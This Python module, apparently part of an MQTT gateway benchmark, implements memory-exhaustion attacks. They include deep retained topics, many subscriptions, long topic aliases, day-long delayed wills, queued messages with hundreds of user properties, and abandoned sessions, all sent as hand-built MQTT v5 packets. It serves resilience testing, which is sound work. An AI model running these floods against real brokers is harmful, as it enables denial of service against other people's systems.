"""Attacks on the memory of a gateway: things that stay, and take far more memory than the bytes that ask for them.

The packets are of version 5 where the standard has the thing only there.
"""

from __future__ import annotations

import contextlib
import socket
import time
from typing import ClassVar

from edgelab.bench import packets
from edgelab.bench.abuse.attack import Attack

BATCH = 20
EXPIRY = b"\x11" + (86_400).to_bytes(4, "big")
"""A session of one day."""


def connect_v5(client_id: str, will: bytes = b"") -> bytes:
    """CONNECT of version 5 for a new session of one day; *will* is written out, with its properties (section 3.1)."""
    flags = b"\x06" if will else b"\x02"
    start = packets.text("MQTT") + b"\x05" + flags + b"\x00\x00" + _with_length(EXPIRY)
    return packets.packet(0x10, start + packets.text(client_id) + will)


def publish_v5(topic: str, payload: bytes, properties: bytes, packet_id: int = 0) -> bytes:
    """PUBLISH of version 5, at QoS 1 if there is a packet identifier (section 3.3)."""
    identifier = packet_id.to_bytes(2, "big") if packet_id else b""
    body = packets.text(topic) + identifier + _with_length(properties) + payload
    return packets.packet(0x32 if packet_id else 0x30, body)


def user_properties(count: int) -> bytes:
    """So many short user properties."""
    return b"".join(b"\x26" + packets.text(f"key{number}") + packets.text(f"v{number}") for number in range(count))


def topic_of_levels(name: str, levels: int, chars: int) -> str:
    """A topic or filter that begins with *name* and has so many levels, and about so many characters."""
    part = max(1, (chars - len(name)) // levels - 1)
    return name + "".join(f"/{level % 10**part:0{part}}" for level in range(levels - 1))


def _with_length(properties: bytes) -> bytes:
    """*properties* behind their length in septets, as in the fixed header."""
    return packets.head(0, len(properties))[1:] + properties


class MemoryAttack(Attack):
    """An attack of ever new things, numbered from 1."""

    def prepare(self) -> None:
        self._number = 0

    def next_number(self) -> int:
        """The next number."""
        self._number += 1
        return self._number

    def member(self, greeting: bytes) -> socket.socket | None:
        """The one client of this attack, let in with *greeting* if it is not here. None if it is refused."""
        if not self.crowd.members and self.crowd.connect(greeting) is None:
            time.sleep(0.01)
            return None
        return self.crowd.members[0]

    def leave_session(self, greeting: bytes, request: bytes = b"") -> bool:
        """A client comes, asks for something and goes without a word; its session stays. False if it is refused."""
        member = self.crowd.connect(greeting)
        if member is None:
            time.sleep(0.005)
            return False
        if request:
            self.crowd.push_all(member, request)
            self.crowd.discard_input(member)
            time.sleep(0.002)
        if member in self.crowd.members:
            self.crowd.hang_up(member)
        return True


class DeepRetained(MemoryAttack):
    """Retained messages whose topics have as many levels as they may."""

    name: ClassVar = "deep-retained"
    about: ClassVar = "retained messages of one byte, each under another topic of 254 characters and 127 levels"
    unit: ClassVar = "messages"

    def strike(self) -> int:
        member = self.member(packets.connect("abuse-deep-retained"))
        if member is None:
            return 0
        topics = [topic_of_levels(f"{self.next_number():08}", 127, 254) for _ in range(BATCH)]
        self.crowd.push_all(member, b"".join(packets.retained(topic, b"x") for topic in topics))
        return BATCH


class DeepSubscriptions(MemoryAttack):
    """Subscriptions with many levels that nobody else has."""

    name: ClassVar = "deep-subscriptions"
    about: ClassVar = "subscriptions of one client, each another of 250 characters and 40 levels"
    unit: ClassVar = "subscriptions"

    def strike(self) -> int:
        member = self.member(packets.connect("abuse-deep-subscriptions"))
        if member is None:
            return 0
        filters = [topic_of_levels(f"{self.next_number():08}", 40, 250) for _ in range(BATCH)]
        self.crowd.push_all(member, packets.subscribe(filters, 0))
        return BATCH


class TopicAliases(MemoryAttack):
    """Topic aliases that stand for long topics."""

    name: ClassVar = "topic-aliases"
    about: ClassVar = "300 clients with 32 topic aliases each, first for topics of 2,000 characters, then of 60,000"
    unit: ClassVar = "aliases"

    def strike(self) -> int:
        number = self.next_number()
        if len(self.crowd.members) < self.scaled(300):
            member = self.crowd.connect(connect_v5(f"abuse-alias-{number}"))
            if member is None:
                time.sleep(0.01)
                return 0
            chars = 2_000
        else:
            member, chars = self.crowd.members[number % len(self.crowd.members)], 60_000
        out = []
        for alias in range(1, 33):
            topic = f"{number}/{alias}/" + "t" * chars
            out.append(publish_v5(topic, b"", b"\x23" + alias.to_bytes(2, "big")))
        self.crowd.push_all(member, b"".join(out))
        return len(out)


class DelayedWills(MemoryAttack):
    """Wills that wait for a day."""

    name: ClassVar = "delayed-wills"
    about: ClassVar = "clients that leave a will of 30 KiB and 500 user properties behind, delayed by one day"
    unit: ClassVar = "wills"

    def strike(self) -> int:
        properties = b"\x18" + (86_400).to_bytes(4, "big") + user_properties(500)
        number = self.next_number()
        will = _with_length(properties) + packets.text(f"abuse/will/{number}") + packets.text("w" * 30_720)
        return int(self.leave_session(connect_v5(f"abuse-will-{number}", will)))


class UserProperties(MemoryAttack):
    """Queued messages with user properties."""

    name: ClassVar = "user-properties"
    about: ClassVar = "messages of QoS 1 with 800 user properties, which wait for 100 readers that are away"
    unit: ClassVar = "messages"
    READERS: ClassVar = 100

    def prepare(self) -> None:
        super().prepare()
        for reader in range(self.scaled(self.READERS)):
            greeting = connect_v5(f"abuse-properties-{reader}")
            self.leave_session(greeting, packets.packet(0x82, b"\0\1\0" + packets.text(f"abuse/p/{reader}") + b"\1"))

    def strike(self) -> int:
        member = self.member(connect_v5("abuse-properties"))
        if member is None:
            return 0
        number = self.next_number()
        topic = f"abuse/p/{number % self.scaled(self.READERS)}"
        self.crowd.push_all(member, publish_v5(topic, b"x", user_properties(800), 1 + number % 60_000))
        return 1


class QueuedMessages(MemoryAttack):
    """Small messages in the queues of many sessions."""

    name: ClassVar = "queued-messages"
    about: ClassVar = "messages of 64 bytes and QoS 1 for 500 readers that are away, each with a topic of its own"
    unit: ClassVar = "messages"
    READERS: ClassVar = 500

    def prepare(self) -> None:
        super().prepare()
        for reader in range(self.scaled(self.READERS)):
            greeting = connect_v5(f"abuse-queue-{reader}")
            self.leave_session(greeting, packets.packet(0x82, b"\0\1\0" + packets.text(f"abuse/q/{reader}") + b"\1"))

    def strike(self) -> int:
        member = self.member(packets.connect("abuse-queue"))
        if member is None:
            return 0
        readers, out = self.scaled(self.READERS), []
        for _ in range(100):
            number = self.next_number()
            out.append(packets.publish(f"abuse/q/{number % readers}", b"q" * 64, 1 + number % 60_000))
        self.crowd.push_all(member, b"".join(out))
        return len(out)


class ManySessions(MemoryAttack):
    """Sessions whose clients never come back."""

    name: ClassVar = "many-sessions"
    about: ClassVar = "clients that begin a session of one day and go, each under another identifier"
    unit: ClassVar = "sessions"

    def strike(self) -> int:
        members = []
        for _ in range(BATCH):  # together: an answer may wait for the disk
            member = self.crowd.dial()
            if member is not None:
                self.crowd.push(member, connect_v5(f"abuse-session-{self.next_number()}"))
                members.append(member)
        begun = 0
        for member in members:
            with contextlib.suppress(OSError):
                answer = member.recv(4)
                begun += answer[3:] == b"\0"
        self.crowd.hang_up_all()
        self.crowd.rebuffs += len(members) - begun
        return begun


MEMORY_ATTACKS = (
    *(DeepRetained, DeepSubscriptions, TopicAliases, DelayedWills, UserProperties, QueuedMessages, ManySessions),
)
